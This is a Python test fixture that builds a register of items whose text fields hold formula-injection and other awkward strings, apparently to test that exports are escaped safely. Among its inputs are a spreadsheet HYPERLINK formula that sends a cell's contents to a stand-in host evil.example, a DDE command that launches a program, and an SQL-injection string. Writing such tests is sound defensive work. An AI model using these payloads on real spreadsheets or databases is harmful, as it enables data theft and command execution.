"""A register whose texts want to be formulas, markup or anything but text."""

import ryaml

from peeltrack.model.register import Register
from tests.registers import register_from

_BEGINNINGS = ("=", "+", "-", "@", "\t", "\t=", " =", "'=", '"=', "\n=")
_BODIES = (
    "1+1",
    "HYPERLINK(\"https://evil.example/?\"&A1, 'Click')",
    "cmd|'/C calc'!A0",
    "SUM(1;2)*3,4",
)
STRANGE = (
    "{=1+1}", "_x0041_", "_x000D_", "a\tb", "line\nline", "line\n\n=1+1", " blanks ", '"', "''",
    "<script>&amp;</script>", "]]>", "http://evil.example", "mailto:who@evil.example",
    "internal:items!A1", "0123", "1e5", "TRUE", "2022-05-23", "£40,000 café \u2018so\u2019", "😀",
    "NULL", "none", "); DROP TABLE items; --", "%00", "\\n\\", ";,|\u00a0", "#REF!",
)  # fmt: skip
TEXTS = (*(f"{begins}{body}" for begins in _BEGINNINGS for body in _BODIES), *STRANGE)
"""More than fifty."""

_ONE_LINE = tuple(text for text in TEXTS if "\n" not in text)


def hostile_register() -> Register:
    """Each text as an update, a step and a reason; each of one line as a title and a lead's."""
    items: dict[str, object] = {
        f"afi-{number:02}": {
            "title": _ONE_LINE[number % len(_ONE_LINE)],
            "wording": text,
            "strategic_lead": f"lead-{number % len(_ONE_LINE)}",
            "addressed_to": [_ONE_LINE[number % len(_ONE_LINE)]],
            "rag": "amber",
            "rag_changes": [{"date": "2022-01-01", "to": "amber", "because": text}],
            "progress": [{"date": "2022-02-01", "text": text}],
            "steps_to_green": [{"id": "a", "text": text, "due": "2022-03-01"}],
        }
        for number, text in enumerate(TEXTS, 1)
    }
    leads = {f"lead-{number}": {"title": title} for number, title in enumerate(_ONE_LINE)}
    question = {"id": "a", "text": TEXTS[0], "answers": [{"text": text} for text in TEXTS]}
    meetings = {"2022-02-02-hta": {"title": _ONE_LINE[0], "questions": [question]}}
    return register_from(ryaml.dumps({**items, "leads": leads, "meetings": meetings}))  # type: ignore[attr-defined]
